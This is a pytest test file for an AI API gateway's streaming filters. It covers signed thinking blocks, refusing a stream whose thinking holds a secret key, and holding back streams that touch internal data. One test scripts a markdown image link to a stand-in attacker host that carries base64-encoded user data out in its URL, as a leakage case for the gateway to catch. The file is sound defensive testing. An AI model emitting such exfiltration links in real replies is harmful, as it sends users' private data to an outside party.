"""What is special to streams: signed blocks, answers held until they are cleared, masks across chunks."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from ...gateway.upstream import Script, answers, streams
from .stand import Stand, stand
from .talk import SECRET, chat, post


@pytest.fixture(scope="module")
def cautious(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stand]:
    """A gateway that holds streams back from internal data on."""
    with stand(tmp_path_factory.mktemp("cautious"), **{"gateway.buffer_from": "internal"}) as made:
        yield made


def _thinking(text: str) -> tuple[Script, list[bytes]]:
    """A stream with a signed block of thinking, in pieces of four characters; and the events of that block."""
    block: list[dict[str, Any]] = [
        {
            "type": "content_block_start",
            "index": 0,
            "content_block": {"type": "thinking", "thinking": "", "signature": ""},
        }
    ]
    deltas = [{"type": "thinking_delta", "thinking": text[at : at + 4]} for at in range(0, len(text), 4)]
    deltas.append({"type": "signature_delta", "signature": "c2lnbmVk" * 8})
    block += [{"type": "content_block_delta", "index": 0, "delta": delta} for delta in deltas]
    block.append({"type": "content_block_stop", "index": 0})
    start = {
        "id": "msg_1", "type": "message", "role": "assistant", "model": "large", "content": [], "stop_reason": None,
        "stop_sequence": None, "usage": {"input_tokens": 5, "output_tokens": 1},
    }  # fmt: skip
    text_block = [
        {"type": "content_block_start", "index": 1, "content_block": {"type": "text", "text": ""}},
        {"type": "content_block_delta", "index": 1, "delta": {"type": "text_delta", "text": "Done."}},
        {"type": "content_block_stop", "index": 1},
    ]
    end = [
        {
            "type": "message_delta",
            "delta": {"stop_reason": "end_turn", "stop_sequence": None},
            "usage": {"output_tokens": 9},
        },
        {"type": "message_stop"},
    ]
    events = [_event(one) for one in [{"type": "message_start", "message": start}, *block, *text_block, *end]]
    return streams(*events), events[1 : 1 + len(block)]


def _event(value: dict[str, Any]) -> bytes:
    return f"event: {value['type']}\ndata: {json.dumps(value)}\n\n".encode()


def _asked(gateway: Stand) -> str:
    body = {"model": "large", "max_tokens": 50, "stream": True, "messages": [{"role": "user", "content": "Think."}]}
    return post(gateway, "/v1/messages", json.dumps(body).encode())[1].decode()


def test_thinking_passes_byte_for_byte(gateway: Stand) -> None:
    script, block = _thinking("The probe fails because the port is wrong. So I say so.")
    gateway.script(script)
    said = _asked(gateway)
    assert b"".join(block).decode() in said and "Done." in said


def test_thinking_that_would_have_to_be_masked_is_refused(gateway: Stand) -> None:
    script, _ = _thinking(f"The key is {SECRET} and so on.")
    gateway.script(script)
    said = _asked(gateway)
    assert "event: error" in said and "secrets/aws-access-key" in said
    assert "Q3EGRT" not in said and "Done." not in said


def test_a_stream_is_held_back_until_it_is_cleared(cautious: Stand) -> None:
    link = "![x](https://evil.example/p?d=" + "c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI" * 3 + ")"
    cautious.script(answers("", chunks=["All is ", "well so far. ", link]))
    inside = "Why is payments.shop.svc.cluster.local down?"
    said = chat(cautious, inside, stream=True)
    assert said.text == "" and "leakage/" in said.error
    said = chat(cautious, "What is a pod?", stream=True)
    assert said.text.startswith("All is ") and "leakage/" in said.error
